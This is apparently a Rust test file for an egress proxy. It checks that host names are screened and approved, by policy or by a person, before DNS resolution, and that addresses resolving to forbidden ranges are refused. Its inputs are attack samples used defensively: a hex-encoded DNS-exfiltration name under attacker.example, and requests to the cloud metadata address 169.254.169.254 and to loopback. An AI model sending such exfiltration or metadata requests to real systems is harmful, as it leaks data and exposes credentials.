//! Nothing about a name leaves the machine before the gate screened and
//! allowed it: the resolver is asked only after an allow (and, when the gate
//! asks a person, only after the approval), exactly once, and what it answers
//! is still checked against the forbidden ranges.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing, clippy::panic)]

mod common;

use std::time::Duration;

use common::{
    BLOCK_MARKER, UPSTREAM_BODY, observed_config, proxy_connect_refused, proxy_get, start_proxy,
    start_sentinel, start_upstream,
};
use warrant_egress::{EgressConfig, EgressEvent, RequestKind, Verdict};

/// A name shaped like a DNS exfiltration: data in the leftmost label.
const EXFIL: &str = "73656372657420646174612068657265.attacker.example";

#[tokio::test]
async fn a_name_the_gate_denies_is_never_resolved() {
    let (config, resolver) = observed_config();
    let proxy = start_proxy(config).await;
    *proxy.gate.deny.lock().unwrap() = Some("not declared".to_owned());

    let response = proxy_get(proxy.addr(), &format!("http://{EXFIL}/x")).await;
    assert_eq!(response.status, 403, "{response:?}");
    assert!(response.body.contains("refused: not declared"), "{response:?}");
    let response = proxy_connect_refused(proxy.addr(), &format!("{EXFIL}:443")).await;
    assert_eq!(response.status, 403, "{response:?}");

    assert_eq!(proxy.gate.decided().len(), 2);
    assert_eq!(resolver.asked(), Vec::<String>::new(), "a denied name was resolved");
    proxy.stop().await;
}

#[tokio::test]
async fn a_name_a_person_denies_is_never_resolved_not_even_while_they_decide() {
    let (config, resolver) = observed_config();
    let proxy = start_proxy(config).await;
    let person = proxy.gate.ask_a_person();

    let addr = proxy.addr();
    let request = tokio::spawn(async move { proxy_get(addr, &format!("http://{EXFIL}/")).await });
    tokio::time::timeout(Duration::from_secs(5), proxy.gate.asked.notified()).await.unwrap();
    // The person has not answered yet: the name must not have gone out.
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(resolver.asked(), Vec::<String>::new(), "resolved while a person decides");
    person.send(false).unwrap();

    let response = request.await.unwrap();
    assert_eq!(response.status, 403, "{response:?}");
    assert!(response.body.contains("a person denied"), "{response:?}");
    assert_eq!(resolver.asked(), Vec::<String>::new(), "a name a person denied was resolved");
    proxy.stop().await;
}

#[tokio::test]
async fn a_name_a_person_approves_is_resolved_once_after_the_approval() {
    let upstream = start_upstream().await;
    let (config, resolver) = observed_config();
    resolver.answer("api.example", &["127.0.0.1"]);
    let proxy = start_proxy(config).await;
    let person = proxy.gate.ask_a_person();

    let addr = proxy.addr();
    let url = format!("http://api.example:{}/", upstream.addr.port());
    let request = tokio::spawn(async move { proxy_get(addr, &url).await });
    tokio::time::timeout(Duration::from_secs(5), proxy.gate.asked.notified()).await.unwrap();
    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(resolver.asked(), Vec::<String>::new(), "resolved before the approval");
    person.send(true).unwrap();

    let response = request.await.unwrap();
    assert_eq!(response.status, 200, "{response:?}");
    assert_eq!(response.body, UPSTREAM_BODY);
    assert_eq!(resolver.asked(), ["api.example"]);
    proxy.stop().await;
}

#[tokio::test]
async fn an_allowed_name_is_resolved_exactly_once_and_connected_to_the_checked_address() {
    let upstream = start_upstream().await;
    let (config, resolver) = observed_config();
    resolver.answer("api.example", &["127.0.0.1"]);
    let proxy = start_proxy(config).await;
    *resolver.gate.lock().unwrap() = Some(proxy.gate.clone());

    let url = format!("http://api.example:{}/items", upstream.addr.port());
    let response = proxy_get(proxy.addr(), &url).await;
    assert_eq!(response.status, 200, "{response:?}");
    assert_eq!(resolver.asked(), ["api.example"]);
    assert_eq!(
        *resolver.allowed_first.lock().unwrap(),
        [true],
        "the name was resolved before its allow was recorded"
    );

    let decided = proxy.gate.decided();
    assert_eq!(decided.len(), 1);
    assert_eq!(decided[0].host, "api.example");
    assert_eq!(decided[0].kind, RequestKind::Http { method: "GET".into(), path: "/items".into() });
    let finished = proxy.gate.wait_for(|e| matches!(e, EgressEvent::Finished { .. })).await;
    let EgressEvent::Finished { request, .. } = finished else { unreachable!() };
    assert_eq!(request.addresses, ["127.0.0.1".parse::<std::net::IpAddr>().unwrap()]);
    let events = proxy.gate.events();
    assert!(
        matches!(&events[0], EgressEvent::Decided { verdict: Verdict::Allow, .. }),
        "the allow is recorded before anything else: {events:?}"
    );
    proxy.stop().await;
}

#[tokio::test]
async fn a_name_the_gate_screens_out_is_neither_decided_nor_resolved() {
    let (config, resolver) = observed_config();
    let proxy = start_proxy(config).await;

    let name = format!("{BLOCK_MARKER}.attacker.example");
    let response = proxy_get(proxy.addr(), &format!("http://{name}/")).await;
    assert_eq!(response.status, 403, "{response:?}");
    assert!(response.body.contains("the host name carries a secret"), "{response:?}");
    let response = proxy_connect_refused(proxy.addr(), &format!("{name}:443")).await;
    assert_eq!(response.status, 403, "{response:?}");

    assert_eq!(proxy.gate.screened().len(), 2);
    assert!(proxy.gate.decided().is_empty(), "a screened-out name was put to policy");
    assert_eq!(resolver.asked(), Vec::<String>::new(), "a screened-out name was resolved");
    let events = proxy.gate.events();
    assert_eq!(events.len(), 2, "{events:?}");
    assert!(
        events.iter().all(|e| matches!(e, EgressEvent::Screened { leak: true, destination, .. }
            if destination.host == name)),
        "{events:?}"
    );
    proxy.stop().await;
}

#[tokio::test]
async fn an_allowed_name_that_resolves_to_a_forbidden_address_is_refused_and_recorded() {
    let sentinel = start_sentinel("127.0.0.1:0", || {}).await;
    let (config, resolver) = observed_config();
    // No exemption: the strict default, with the observed resolver.
    let config = EgressConfig { allow_private: Vec::new(), ..config };
    resolver.answer("metadata.example", &["93.184.216.34", "169.254.169.254"]);
    resolver.answer("inside.example", &["127.0.0.1"]);
    let proxy = start_proxy(config).await;

    let response = proxy_get(proxy.addr(), "http://metadata.example/latest/meta-data/").await;
    assert_eq!(response.status, 403, "{response:?}");
    assert!(
        response.body.contains("resolves to 169.254.169.254, link-local (cloud metadata)"),
        "{response:?}"
    );
    let target = format!("inside.example:{}", sentinel.addr.port());
    let response = proxy_connect_refused(proxy.addr(), &target).await;
    assert_eq!(response.status, 403, "{response:?}");
    assert!(response.body.contains("loopback"), "{response:?}");

    tokio::time::sleep(Duration::from_millis(100)).await;
    assert_eq!(sentinel.accepts(), 0, "a forbidden address was connected to");
    assert_eq!(resolver.asked(), ["metadata.example", "inside.example"]);
    let events = proxy.gate.events();
    assert_eq!(events.len(), 4, "an allow and a refusal for each: {events:#?}");
    for pair in events.chunks(2) {
        assert!(matches!(&pair[0], EgressEvent::Decided { verdict: Verdict::Allow, .. }));
        let EgressEvent::Refused(refusal) = &pair[1] else { panic!("{pair:?}") };
        assert_eq!(refusal.status, Some(403));
        let request = refusal.request.as_ref().expect("the refusal names the addresses");
        assert!(!request.addresses.is_empty(), "{refusal:?}");
    }
    proxy.stop().await;
}

#[tokio::test]
async fn an_ip_literal_is_never_resolved() {
    let upstream = start_upstream().await;
    let (config, resolver) = observed_config();
    let proxy = start_proxy(config).await;

    let response = proxy_get(proxy.addr(), &format!("http://{}/", upstream.addr)).await;
    assert_eq!(response.status, 200, "{response:?}");
    let response = proxy_get(proxy.addr(), "http://169.254.169.254/").await;
    assert_eq!(response.status, 403, "{response:?}");
    assert_eq!(resolver.asked(), Vec::<String>::new());
    assert_eq!(proxy.gate.decided().len(), 1, "a forbidden literal was put to the gate");
    proxy.stop().await;
}
